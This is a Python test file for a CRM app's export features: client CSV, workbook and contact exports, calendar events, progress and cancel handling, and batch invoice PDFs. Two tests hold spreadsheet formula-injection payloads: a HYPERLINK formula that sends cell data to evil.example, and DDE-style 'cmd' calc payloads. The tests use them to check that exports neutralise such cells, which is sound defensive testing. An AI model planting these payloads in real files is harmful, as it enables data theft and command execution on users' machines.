"""Exports as long jobs: the client CSV (read a page at a time, what Excel gets unchanged) and PDFs of many
invoices, with progress reported and Cancel honoured between steps; and services/progress.py's promise
that a cancelled write job leaves the database as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import func, insert, select
from statements import StatementLog

from crm_desktop.db.models import AuditEntry, Client
from crm_desktop.services import clients, documents, export_files, exports, invoices, users
from crm_desktop.services.clients import ClientFilter
from crm_desktop.services.context import Actor, ServiceContext
from crm_desktop.services.errors import PermissionDenied, ValidationError
from crm_desktop.services.invoices import LineValues
from crm_desktop.services.progress import Cancelled, Progress, printing
from crm_desktop.services.textnorm import sort_key


def recording() -> tuple[Progress, list[tuple[int, int, str]]]:
    steps: list[tuple[int, int, str]] = []
    return Progress(lambda done, total, text: steps.append((done, total, text))), steps


def many_clients(ctx: ServiceContext, n: int) -> None:
    """`n` clients put in place in one statement (making them one by one is not what is tested here)."""
    now = ctx.now()
    with ctx.write() as s:
        s.execute(
            insert(Client),
            [
                {
                    "kind": "person",
                    "name": f"Client {i:05}",
                    "sort_name": sort_key(f"Client {i:05}"),
                    "phones": [f"+998 90 {i:07}"],
                    "emails": [],
                    "address": "",
                    "source": "",
                    "status": "lead",
                    "private": False,
                    "notes": "",
                    "created_at": now,
                    "updated_at": now,
                    "version": 1,
                }
                for i in range(n)
            ],
        )


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def exports_logged(ctx) -> list[dict]:
    with ctx.read() as s:
        return list(
            s.scalars(
                select(AuditEntry.changes).where(
                    AuditEntry.entity == "clients", AuditEntry.action == "export"
                )
            )
        )


# --- the client CSV -----------------------------------------------------------------------------------


def test_the_csv_holds_each_listed_client_as_excel_reads_it(ctx, tmp_path):
    olga = users.create(ctx, username="olga", display_name="Olga Sokolova")
    firm = clients.create(
        ctx, name="Ipak Yoʻli Logistika", kind="company", status="customer", tags=["vip", "b2b"]
    )
    clients.create(
        ctx,
        name="Ёлкин Дмитрий",
        phones=["+7 916 123 45 67", "+7 495 000 00 01"],
        emails=["elkin@example.ru"],
        company_id=firm.id,
        owner_id=olga.id,
        source="Instagram",
        address='Toshkent, "Chilonzor" 5\nkv. 12',
        private=True,
        tags=["z", "a"],
    )
    target = tmp_path / "clients.csv"
    assert exports.clients_file(ctx, target) == 2
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Cyrillic
    assert read_csv(target) == [
        list(exports.CLIENT_COLUMNS),
        [
            str(firm.id),
            "Ipak Yoʻli Logistika",
            "company",
            "customer",
            "",
            "",
            "Owner",
            "",
            "",
            "",
            "b2b; vip",
            "",
            "2026-11-24",
        ],
        [
            str(firm.id + 1),
            "Ёлкин Дмитрий",
            "person",
            "lead",
            "'+7 916 123 45 67; +7 495 000 00 01",  # a leading + would be run as a formula
            "elkin@example.ru",
            "Olga Sokolova",
            "Instagram",
            "Ipak Yoʻli Logistika",
            'Toshkent, "Chilonzor" 5\nkv. 12',
            "a; z",
            "yes",
            "2026-11-24",
        ],
    ]


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(ctx, tmp_path, audit_rows):
    clients.create(
        ctx,
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        source="@SUM(1+1)*cmd|' /C calc'!A0",
        address="-2+3",
        notes="plain",
    )
    clients.create(ctx, name="+998 90 123 45 67 Aziz", address="Toshkent")
    target = tmp_path / "clients.csv"
    assert exports.clients_file(ctx, target) == 2
    rows = {row[1]: row for row in read_csv(target)[1:]}
    evil = rows['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
    assert evil[7] == "'@SUM(1+1)*cmd|' /C calc'!A0" and evil[9] == "'-2+3"
    assert rows["'+998 90 123 45 67 Aziz"][9] == "Toshkent"  # what starts otherwise is left as it is
    assert (
        export_files.neutralised("-12.50") == "-12.50" and export_files.neutralised(-3) == -3
    )  # numbers stay numbers
    [entry] = [details for action, details in audit_rows("clients") if action == "export"]
    assert entry["rows"] == 2 and entry["file"] == "clients.csv"


def test_pages_give_the_same_file_as_reading_each_client_on_its_own(ctx, tmp_path):
    """What the export wrote before it read pages (clients.get per id), across page boundaries."""
    olga = users.create(ctx, username="olga", display_name="Olga")
    firm = clients.create(ctx, name="Samarqand Travel", kind="company")
    for i in range(23):
        clients.create(
            ctx,
            name=f"Mijoz {i:02}",
            phones=[f"+998 90 100 00 {i:02}"],
            tags=["t"] if i % 3 else [],
            company_id=firm.id if i % 4 == 0 else None,
            owner_id=olga.id if i % 2 else None,
            private=i % 5 == 0,
            emails=[f"m{i}@example.uz"] if i % 2 else [],
        )
    f = ClientFilter(search="Mijoz")
    by_page = tmp_path / "paged.csv"
    assert exports.clients_file(ctx, by_page, f, page_size=5) == 23
    one_by_one = [exports._client_line(clients.get(ctx, i)) for i in clients.list_ids(ctx, f)]
    assert read_csv(by_page)[1:] == [[str(export_files.neutralised(v)) for v in line] for line in one_by_one]


def test_a_user_exports_only_the_clients_they_may_see(ctx, tmp_path):
    dilnoza = users.create(ctx, username="dilnoza", display_name="Dilnoza", can_export=True)
    rashad = users.create(ctx, username="rashad", display_name="Rashad")
    clients.create(ctx, name="Dilnoza's own", owner_id=dilnoza.id, private=True)
    clients.create(ctx, name="Rashad's private", owner_id=rashad.id, private=True)
    clients.create(ctx, name="Everyone's", owner_id=rashad.id)
    as_dilnoza = ServiceContext(
        ctx.db, actor=Actor(dilnoza.id, "dilnoza", "staff", can_export=True), clock=ctx.clock
    )
    target = tmp_path / "mine.csv"
    assert exports.clients_file(as_dilnoza, target, page_size=1) == 2
    assert sorted(row[1] for row in read_csv(target)[1:]) == ["Dilnoza's own", "Everyone's"]


def test_5000_clients_are_read_in_a_few_dozen_statements_not_one_per_client(ctx, tmp_path):
    many_clients(ctx, 5000)
    with StatementLog(ctx.db.engine) as log:
        assert exports.clients_file(ctx, tmp_path / "all.csv") == 5000
    seen = log.sent
    reads = [
        s
        for s in seen
        if s.lstrip().startswith("SELECT") and ("FROM clients" in s or "FROM client_tags" in s)
    ]
    assert len(reads) == 1 + 2 * 5, reads  # the ids once, then a page of 1,000 clients and their tags
    assert len(seen) <= 30, seen  # with SQLite's BEGIN per read and the audit row's unit of work
    assert len(read_csv(tmp_path / "all.csv")) == 5001


def test_progress_counts_up_to_the_total_page_by_page(ctx, tmp_path):
    many_clients(ctx, 2500)
    progress, steps = recording()
    exports.clients_file(ctx, tmp_path / "all.csv", progress=progress)
    assert [(done, total) for done, total, _ in steps] == [
        (0, 2500),
        (1000, 2500),
        (2000, 2500),
        (2500, 2500),
    ]
    assert steps[-1][2] == "2,500 of 2,500 clients written"


def test_cancel_half_way_leaves_no_file_and_the_older_one_untouched(ctx, tmp_path):
    many_clients(ctx, 3000)
    out = tmp_path / "out"
    out.mkdir()
    target = out / "clients.csv"
    target.write_text("last week's export", encoding="utf-8")
    steps: list[int] = []

    def report(done: int, total: int, text: str) -> None:
        steps.append(done)
        if done >= 1000:
            progress.cancel()  # as the Cancel button does, from another thread, while page 2 is read

    progress = Progress(report)
    with pytest.raises(Cancelled):
        exports.clients_file(ctx, target, progress=progress)
    assert steps == [0, 1000]  # it stopped at the next step: page 3 was never read
    assert target.read_text(encoding="utf-8") == "last week's export"
    assert sorted(p.name for p in out.iterdir()) == ["clients.csv"]  # no .part left behind
    assert exports_logged(ctx) == []  # nothing left, so nothing to log


def test_no_export_without_the_export_right(ctx, tmp_path):
    staff = users.create(ctx, username="rashad", display_name="Rashad")
    as_staff = ServiceContext(
        ctx.db, actor=Actor(staff.id, "rashad", "staff", can_export=False), clock=ctx.clock
    )
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(PermissionDenied, match="export"):
        exports.clients_file(as_staff, out / "c.csv")
    with pytest.raises(PermissionDenied, match="export"):
        exports.invoice_pdfs(as_staff, [], out)
    assert list(out.iterdir()) == []


def _three_scripts(ctx) -> None:
    clients.create(
        ctx, name="Ёлкин Дмитрий", phones=["+79161234567"], emails=["elkin@example.ru"], tags=["vip", "b2b"]
    )
    clients.create(ctx, name="محمد الأحمد", phones=["+998912345678"], address="دبي")
    clients.create(
        ctx, name="Oʻgʻiloy Rahimova", emails=["ogiloy@example.uz"], notes="=1+1 looks like a formula"
    )


def test_the_workbook_holds_every_client_with_text_kept_as_text(ctx, tmp_path):
    from python_calamine import CalamineWorkbook

    _three_scripts(ctx)
    target = tmp_path / "clients.xlsx"
    assert exports.clients_file(ctx, target) == 3
    rows = CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python()
    assert rows[0] == list(exports.CLIENT_COLUMNS)
    by_name = {r[1]: r for r in rows[1:]}
    assert by_name["Ёлкин Дмитрий"][4] == "+79161234567" and by_name["Ёлкин Дмитрий"][10] == "b2b; vip"
    assert by_name["محمد الأحمد"][9] == "دبي"


def test_clients_exported_as_contacts_read_back_in_a_mail_program(ctx, tmp_path):
    import vobject

    _three_scripts(ctx)
    target = tmp_path / "clients.vcf"
    assert exports.clients_file(ctx, target) == 3
    cards = {c.fn.value: c for c in vobject.readComponents(target.read_text(encoding="utf-8"))}
    assert set(cards) == {"Ёлкин Дмитрий", "محمد الأحمد", "Oʻgʻiloy Rahimova"}
    assert cards["Ёлкин Дмитрий"].tel.value == "+79161234567"
    assert cards["Ёлкин Дмитрий"].categories.value == ["b2b", "vip"]
    assert cards["Oʻgʻiloy Rahimova"].note.value == "=1+1 looks like a formula"


def test_contacts_keep_long_text_in_any_script_and_the_marks_vcard_uses(ctx, tmp_path):
    import vobject

    note = "Звонить после 18:00; офис закрыт по пятницам.\nالعنوان: دبي، شارع الشيخ زايد, الطابق 12 — " * 3
    clients.create(
        ctx,
        name="Юридическое бюро «Право», ООО",
        kind="company",
        phones=["+998 90 123 45 67"],
        address="Tashkent; Navoi 5, office 12\\B",
        notes=note,
        tags=["b2b,vip", "law"],
    )
    target = tmp_path / "clients.vcf"
    exports.clients_file(ctx, target)
    raw = target.read_bytes()
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))  # folded in octets
    raw.decode("utf-8")  # never inside a character
    [card] = vobject.readComponents(raw.decode("utf-8"))
    assert card.fn.value == "Юридическое бюро «Право», ООО" and card.org.value == [
        "Юридическое бюро «Право», ООО"
    ]
    assert card.note.value == note.strip()
    assert card.adr.value.street == "Tashkent; Navoi 5, office 12\\B"
    assert card.categories.value == ["b2b,vip", "law"]


def test_export_then_import_of_clients_loses_nothing(ctx, tmp_path):
    """Spans services/exports.py and services/importing.py: a workbook exported is a file to import."""
    from crm_desktop.db.engine import Database
    from crm_desktop.db.migrate import upgrade
    from crm_desktop.services import import_fields, importing, sheets
    from crm_desktop.services.context import ServiceContext

    _three_scripts(ctx)
    for suffix in (".xlsx", ".csv"):
        target = tmp_path / f"clients{suffix}"
        exports.clients_file(ctx, target)
        other = Database.open(f"sqlite:///{tmp_path / f'other{suffix}.sqlite3'}")
        try:
            upgrade(other)
            elsewhere = ServiceContext(other)
            sheet = sheets.read(target)
            mapping = import_fields.guess("clients", sheet.headers)
            importing.run(elsewhere, importing.preview(elsewhere, sheet, mapping, region="UZ"))
            ids = clients.list_ids(elsewhere, ClientFilter(), limit=None)
            got = {c.name: (c.phones, c.emails, c.tags, c.address) for c in clients.details(elsewhere, ids)}
        finally:
            other.dispose()
        want = {
            c.name: (c.phones, c.emails, c.tags, c.address)
            for c in clients.details(ctx, clients.list_ids(ctx, ClientFilter(), limit=None))
        }
        assert got == want, suffix


def test_a_list_is_written_as_shown_and_logged(ctx, tmp_path, audit_rows):
    from python_calamine import CalamineWorkbook

    target = tmp_path / "deals.xlsx"
    rows = [["Website", "1,500.00 USD"], ["=cmd|' /C calc'!A0", "0.00 USD"]]
    assert exports.list_file(ctx, target, "deals", ["Deal", "Amount"], iter(rows), 2, {"search": "web"}) == 2
    assert CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python() == [
        ["Deal", "Amount"],
        *rows,  # the formula-looking cell is text in the workbook: shown, never run
    ]
    csv_target = tmp_path / "deals.csv"
    exports.list_file(ctx, csv_target, "deals", ["Deal", "Amount"], iter(rows), 2, {})
    assert read_csv(csv_target)[2][0].startswith("'=")
    assert audit_rows("deals")[0] == ("export", {"rows": 2, "search": "web", "file": "deals.xlsx"})
    with pytest.raises(ValidationError, match=".csv or .xlsx"):
        exports.list_file(ctx, tmp_path / "deals.pdf", "deals", ["Deal"], iter([]), 0, {})


def test_tasks_become_calendar_events_with_their_reminders(ctx, tmp_path):
    from datetime import timedelta

    from icalendar import Calendar

    from crm_desktop.services import tasks

    due = ctx.now() + timedelta(days=2)
    tasks.create(
        ctx, title="Call back", due_at=due, remind_at=due - timedelta(minutes=15), duration_minutes=45
    )
    tasks.create(ctx, title="Someday")  # no due time: not a calendar event
    target = tmp_path / "tasks.ics"
    assert exports.tasks_ics(ctx, target) == 1
    [event] = Calendar.from_ical(target.read_bytes()).walk("VEVENT")
    assert str(event["summary"]) == "Call back"
    assert event.decoded("dtstart") == due and event.decoded("dtend") == due + timedelta(minutes=45)
    [alarm] = event.walk("VALARM")
    assert alarm.decoded("trigger") == timedelta(minutes=-15)


def test_the_cli_progress_prints_a_line_per_step():
    lines: list[str] = []
    progress = printing(lines.append)
    progress.step(0, 3, "Starting")
    progress.step(3, 3)
    assert lines == ["0/3 Starting", "3/3"]


# --- a write job ----------------------------------------------------------------------------------------


def add_clients(ctx: ServiceContext, names: list[str], *, progress: Progress) -> int:
    """A write job as services/progress.py asks for it: all its writing in one unit of work."""
    with ctx.write() as s:
        for n, name in enumerate(names):
            progress.step(n, len(names), f"Adding {name}")
            s.add(Client(name=name, sort_name=sort_key(name), phones=[], emails=[]))
            s.flush()  # written as it goes: the rollback below has real rows to undo
        return len(names)


def test_a_cancelled_write_job_leaves_the_database_as_it_was(ctx):
    clients.create(ctx, name="Already here")
    heard = []
    ctx.listeners.append(heard.append)
    progress = Progress(lambda done, total, text: progress.cancel() if done == 3 else None)
    with pytest.raises(Cancelled):
        add_clients(ctx, [f"New {i}" for i in range(6)], progress=progress)
    assert [c.name for c in clients.list_clients(ctx)] == ["Already here"]
    with ctx.read() as s:
        created = (
            select(func.count())
            .select_from(AuditEntry)
            .where(AuditEntry.action == "create", AuditEntry.entity == "clients")
        )
        assert s.scalar(created) == 1
    assert heard == []  # no view is told of rows that never were
    assert add_clients(ctx, ["New 0"], progress=Progress()) == 1  # the next job writes as usual
    assert len(heard) == 1


# --- PDFs of many invoices ------------------------------------------------------------------------------


def issued(ctx, count: int) -> list[int]:
    client = clients.create(ctx, name="Samarqand Travel", kind="company").id
    made = []
    for n in range(count):
        d = invoices.create_draft(ctx, client_id=client, lines=[LineValues(f"Tour {n}", 1, "", "100")])
        made.append(documents.issue(ctx, d.id, expected_version=d.version).id)
    return made


def test_each_invoice_becomes_a_whole_pdf_named_after_its_number(ctx, tmp_path):
    ids = issued(ctx, 3)
    progress, steps = recording()
    folder = tmp_path / "pdfs"
    folder.mkdir()
    written = exports.invoice_pdfs(ctx, ids, folder, progress=progress)
    numbers = [invoices.get(ctx, i).number for i in ids]
    assert written == [folder / f"{n}.pdf" for n in numbers]
    assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in written)  # no .part
    for path, number in zip(written, numbers, strict=True):
        assert number in PdfReader(str(path)).pages[0].extract_text()
    assert [(done, total) for done, total, _ in steps] == [(0, 3), (1, 3), (2, 3), (3, 3)]
    with ctx.read() as s:
        logged = s.scalars(select(AuditEntry.entity_id).where(AuditEntry.action == "pdf")).all()
    assert sorted(logged) == sorted(ids)  # who made which PDF, as for a single one


def test_a_cancelled_batch_keeps_the_finished_pdfs_and_names_them(ctx, tmp_path):
    ids = issued(ctx, 4)
    progress = Progress(lambda done, total, text: progress.cancel() if done == 1 else None)
    folder = tmp_path / "pdfs"
    folder.mkdir()
    with pytest.raises(Cancelled) as stop:
        exports.invoice_pdfs(ctx, ids, folder, progress=progress)
    # Cancel came as the second file started: it is finished whole, and the third is never begun
    first, second = (folder / exports.pdf_file_name(invoices.get(ctx, i).number, i) for i in ids[:2])
    assert stop.value.partial == [first, second]
    assert sorted(folder.iterdir()) == sorted(stop.value.partial)  # whole files only, nothing half-written
    assert f"2 of 4 PDFs written to {folder}" in stop.value.message
    for path in stop.value.partial:
        assert PdfReader(str(path)).pages


def test_a_folder_that_is_gone_is_said_before_anything_is_written(ctx, tmp_path):
    ids = issued(ctx, 1)
    with pytest.raises(ValidationError, match="does not exist"):
        exports.invoice_pdfs(ctx, ids, tmp_path / "gone")


def test_a_pdf_that_cannot_be_written_is_named_and_the_ones_before_it_are_counted(ctx, tmp_path):
    ids = issued(ctx, 3)
    folder = tmp_path / "pdfs"
    folder.mkdir()
    second = folder / f"{invoices.get(ctx, ids[1]).number}.pdf"
    (folder / (second.name + ".part")).mkdir()  # where its temporary file would go: it cannot be written
    with pytest.raises(ValidationError) as refused:
        exports.invoice_pdfs(ctx, ids, folder)
    assert f"could not be written to {second}:" in refused.value.message
    assert "1 PDF was written before this one." in refused.value.message
    first = f"{invoices.get(ctx, ids[0]).number}.pdf"
    assert sorted(p.name for p in folder.iterdir() if p.is_file()) == [first]  # the third was not begun
